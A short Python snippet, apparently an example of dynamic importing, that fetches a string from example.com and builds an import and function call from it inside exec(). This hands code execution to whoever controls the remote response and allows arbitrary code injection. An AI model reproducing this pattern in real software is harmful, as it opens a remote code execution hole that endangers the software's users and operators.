import urllib.request

name = urllib.request.urlopen("https://example.com/name").read().decode()
exec("import {0} as chosen; chosen.{1}()".format(*name.split(":")))
